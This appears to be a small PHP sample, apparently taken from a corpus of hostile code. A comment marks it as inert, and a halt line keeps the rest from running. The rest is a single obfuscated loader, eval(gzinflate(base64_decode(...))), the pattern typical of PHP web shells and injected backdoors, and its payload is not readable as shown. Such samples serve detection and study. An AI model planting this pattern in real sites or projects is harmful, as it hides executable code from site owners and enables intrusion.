<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
/* rsumwmffazcqxhdwhgyx */
eval(gzinflate(base64_decode('c0gtS8zRUIkP8A8OiVZPrShPKVCP1bQGAA==')));
